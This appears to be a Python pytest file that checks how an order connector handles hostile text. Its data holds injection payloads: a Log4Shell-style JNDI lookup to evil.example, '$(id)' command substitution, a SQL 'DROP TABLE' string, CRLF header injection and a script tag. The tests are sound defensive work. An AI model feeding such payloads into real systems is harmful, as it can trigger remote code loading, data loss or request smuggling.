"""Text from a vendor that attacks a terminal, a log, a header, a format or a database."""

from __future__ import annotations

import json
import logging
from collections.abc import Iterator
from typing import Any

import msgspec
import pytest

from connector.cli.logs import configure
from connector.errors import ConflictError, RejectedError, SettingsError, Unmappable
from connector.journal.engine.connection import InlineDatabase
from connector.journal.sqlite import MemoryJournal
from connector.mapping.plain import plain_order
from connector.registry import receiver_types, source_types
from connector.settings import parse
from tests.architecture.checks import formatting
from tests.architecture.source import parsed
from tests.contracts.receiver_harness import ADDRESS, EXAMPLE
from tests.flow.bench import Bench
from tests.fuzz.targets import SETTINGS, warehouse
from tests.sources.propeller import test_source as test_propeller
from tests.sources.traede import test_source as test_traede
from tests.sources.zendera import test_source as test_zendera

EVIL = "a\x00b\r\nc\x1b[31md\x07\u202ee\x85\u2028f\x9b2J"
"""NUL, a line end, two terminal escapes, a bell, right-to-left text, and two line ends of Unicode."""
FORGED = '\n2026-06-11T10:00:00Z ERROR paid\n{"event": "paid", "level": "info"}'
FORMATS = "%s %(a)s %n %d {} {0.__class__} ${jndi:ldap://evil.example/x} {{7*7}} $(id) `id`"
SQL = "'; DROP TABLE deliveries; -- \" ) OR 1=1 /*"


def texts(value: Any) -> Iterator[str]:
    """Yield every text in `value`, including keys."""
    if isinstance(value, dict):
        for key, inner in value.items():
            yield key
            yield from texts(inner)
    elif isinstance(value, list):
        for inner in value:
            yield from texts(inner)
    elif isinstance(value, str):
        yield value


@pytest.mark.attack(16)
@pytest.mark.fault(86)
@pytest.mark.parametrize(
    ("bench", "outcome"),
    [
        pytest.param(test_propeller.TestPropellerSource, "exported", id="exportMessage"),
        pytest.param(test_traede.TestTraedeOrders, "exported", id="note"),
        pytest.param(test_traede.TestTraedeProductionOrders, "exported", id="note of a production order"),
        pytest.param(test_zendera.TestZenderaSource, "failed", id="failureReason"),
    ],
)
async def test_what_a_source_is_told_is_one_short_line(bench: Any, outcome: str) -> None:
    """A receiver's reference, or its reason, is shown on the source's screens."""
    async with bench().make(["1"]) as h:
        await h.source.acknowledge(
            [msgspec.structs.replace(h.acknowledgement("1"), outcome=outcome, message="ORD " + EVIL + "x" * 5000)]
        )
        told = [text for text in texts(json.loads(h.vendor.history[-1].body)) if "ORD" in text]
    assert len(told) == 1
    assert told[0].isprintable()
    assert len(told[0]) <= 500


@pytest.mark.attack(16)
def test_a_warehouse_gets_no_control_characters() -> None:
    """Labels are printed from these texts; a line break in a note is allowed."""
    address = msgspec.structs.replace(
        ADDRESS,
        **{name: getattr(ADDRESS, name) + EVIL for name in ("company", "first_name", "street", "city", "email")},
    )
    order = msgspec.structs.replace(
        EXAMPLE,
        reference="WEB" + EVIL,
        notes="Ring" + EVIL,
        delivery_address=address,
        lines=tuple(msgspec.structs.replace(line, name=line.name + EVIL) for line in EXAMPLE.lines),
        metadata={"color" + EVIL: "red" + EVIL},
    )
    try:
        body = msgspec.json.encode(warehouse().default(order))
    except Unmappable:
        return
    for text in texts(json.loads(body)):
        assert text.replace("\n", "").isprintable(), text


@pytest.mark.attack(16, 17, 18, 19)
@pytest.mark.parametrize("evil", [EVIL, FORGED, FORMATS, SQL], ids=["controls", "forged", "formats", "SQL"])
@pytest.mark.looptime
async def test_text_stays_text_on_its_whole_way(evil: str, capsys: pytest.CaptureFixture[str]) -> None:
    """
    As an id, a note, a cause, a rejection and a conflict: it stays unchanged, and a record stays one line.

    An id with invisible characters is held: a receiver may drop them, and would not find the order again.
    """
    bench = Bench(poll_interval=3600)
    mark = evil if evil.isprintable() else "1"
    for name in ("good", "refused", "conflict", "odd"):
        bench.shop.put(f"{name} {mark}", notes=evil)
    if mark != evil:
        bench.shop.put(f"hidden {evil}")
    bench.shop.put("missing", missing=evil)
    create = bench.wms.create
    odd: list[str] = []

    async def refusing(delivery: Any) -> Any:
        if "refused" in delivery.external_id:
            raise RejectedError(f"no: {evil}")
        if "conflict" in delivery.external_id:
            raise ConflictError(f"other: {evil}")
        if "odd" in delivery.external_id and not odd:
            odd.append(delivery.external_id)
            raise KeyError(evil)
        return await create(delivery)

    bench.wms.create = refusing  # type: ignore[method-assign]
    journal = MemoryJournal()
    handlers = logging.getLogger().handlers[:]
    configure("json")
    try:
        async with bench.running(journal) as connector:
            await connector.drain()
            found = states(journal)
    finally:
        logging.getLogger().handlers[:] = handlers

    assert {external for external, _ in bench.wms.orders} == {f"shop-good {mark}", f"shop-odd {mark}"}
    assert odd
    lines = capsys.readouterr().err.splitlines()
    assert lines
    assert all(line.isprintable() and isinstance(json.loads(line), dict) for line in lines)
    assert found[f"good {mark}"] == "acknowledged"
    assert found.get(f"hidden {evil}") == ("held" if mark != evil else None)
    assert len(found) == (6 if mark != evil else 5)


def states(journal: MemoryJournal) -> dict[str, str]:
    """Return the state of each order in the journal."""
    database = journal.store.database
    assert isinstance(database, InlineDatabase)
    found = database._db.execute("SELECT o.order_id, s.state FROM orders o JOIN order_states s ON s.key = o.key")
    return dict(found.fetchall())


@pytest.mark.attack(23)
@pytest.mark.fault(124)
@pytest.mark.parametrize("key", ["wms_code", "customer_code", "password"])
@pytest.mark.parametrize("evil", ["\r\nX-Evil: 1", "\n", "\x00", "\x7f"])
def test_no_setting_holds_a_header(key: str, evil: str) -> None:
    """A value for a header that contains a line break is rejected at its place, before any call."""
    own = {"type": "ewarehousing", "username": "u", "password": "p" * 8, "wms_code": "D", "customer_code": "C"}
    receivers = {**SETTINGS["receivers"], "erp": {**own, key: f"{own[key]}{evil}"}}
    with pytest.raises(SettingsError, match=rf"receivers\.erp\.{key}: "):
        loaded({**SETTINGS, "receivers": receivers})


TRAEDE = {"type": "traede_orders", "token": "t" * 9, "app_key": "k" * 9, "system_id": "s", "regulate_inventory": False}


@pytest.mark.attack(23)
@pytest.mark.parametrize(
    ("source", "key"),
    [
        ({"type": "propeller", "token": "t" * 9}, "token"),
        (
            {
                "type": "traede_orders",
                "token": "t" * 9,
                "app_key": "k" * 9,
                "system_id": "s",
                "regulate_inventory": False,
            },
            "app_key",
        ),
        ({"type": "zendera", "api_key": "k" * 9}, "api_key"),
    ],
)
def test_no_key_holds_a_header(source: dict[str, Any], key: str) -> None:
    """The same for the keys of sources, wherever they come from; and the message does not repeat them."""
    transport = SETTINGS["sources"]["transport"]
    evil = {**source, key: f"{source[key]}\r\nX-Evil: canary"}
    with pytest.raises(SettingsError, match=rf"sources\.shop\.{key}: ") as caught:
        loaded({**SETTINGS, "sources": {"shop": evil, "transport": transport}})
    assert "canary" not in str(caught.value)


def loaded(settings: dict[str, Any]) -> Any:
    """Load settings that are given as values."""
    sources = {name: each.settings for name, each in source_types().items()}
    receivers = {name: each.settings for name, each in receiver_types().items()}
    return parse(json.dumps(settings), sources=sources, receivers=receivers, environ={})


@pytest.mark.attack(18)
@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("logger.info(message)", True),
        ("logger.warning(f'{order} failed')", True),
        ("logger.error('a' + text)", True),
        ("text.format_map(order)", True),
        ("eval(text)", True),
        ("string.Template(text)", True),
        ("logger.info('order %s', order)", False),
        ("PATH.format(order)", False),
        ("logger.log(level, 'a %s', b)", False),
    ],
)
def test_a_text_that_would_be_a_format_is_found(text: str, found: bool) -> None:
    """The architecture's own check finds it, and every module passes that check."""
    assert bool([*formatting({"m": parsed("m", text)})]) == found


@pytest.mark.attack(20)
def test_html_is_data() -> None:
    """A receiver gets the text unchanged: escaping is up to the program that shows it."""
    order = msgspec.structs.replace(EXAMPLE, notes="<script>alert(1)</script>")
    assert plain_order(order).notes == "<script>alert(1)</script>"
